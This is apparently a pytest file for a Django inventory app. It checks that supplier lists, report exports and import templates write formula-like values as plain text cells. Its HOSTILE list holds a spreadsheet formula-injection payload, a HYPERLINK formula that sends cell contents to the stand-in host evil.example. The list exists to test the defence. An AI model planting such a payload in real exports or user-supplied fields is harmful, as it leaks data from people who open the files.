"""导出 never writes a formula: text that starts like one (= + - @, tab, CR) is a text cell, in
the generic list exports, the report exports and the import template (issue 11 §1)."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from jxc.partners import services as partners
from jxc.web.generic.export import FORMULA_STARTS

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(response):
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_text(cells, values):
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for value in values:
        cell = by_value.get(value)
        assert cell is not None, f"{value!r} not exported as written"
        assert cell.data_type == "s", f"{value!r} exported as {cell.data_type}"
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_every_formula_start_is_covered():
    assert all(v.startswith(FORMULA_STARTS) for v in HOSTILE)


@pytest.fixture
def kit(owner):
    from jxc.inventory.testing import LedgerKit

    return LedgerKit(user=owner)


def test_supplier_named_like_a_formula_exports_as_text(client_owner, owner):
    names = [
        partners.create_supplier(user=owner, code=f"S{i:03d}", name=name).name
        for i, name in enumerate(HOSTILE)
    ]
    assert names[0] == HOSTILE[0]
    _assert_text(_cells(client_owner.get(reverse("web:supplier_export"))), names)


def test_report_export_writes_a_formula_like_sku_name_as_text(client_owner, kit):
    sku = kit.sku("A", price="1")
    type(sku).objects.filter(pk=sku.pk).update(name="=1+2")
    type(sku.product).objects.filter(pk=sku.product_id).update(name="=1+2")
    wh = kit.warehouse("W1")
    kit.receive(sku, wh, "3", "2")
    cells = _cells(client_owner.get(reverse("web:stock_balances"), {"export": "xlsx"}))
    assert any(c.value and "=1+2" in str(c.value) for c in cells)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


def test_numbers_stay_numbers(client_owner, kit):
    sku = kit.sku("A", price="1")
    wh = kit.warehouse("W1")
    kit.receive(sku, wh, "3", "2")
    cells = _cells(client_owner.get(reverse("web:stock_balances"), {"export": "xlsx"}))
    assert any(c.data_type == "n" and c.value == 6 for c in cells)


def test_opening_import_template_has_text_headers(client_owner):
    url = reverse("web:opening_stock_template")
    cells = _cells(client_owner.get(url, follow=True))
    assert cells and all(c.data_type == "s" for c in cells if c.value is not None)
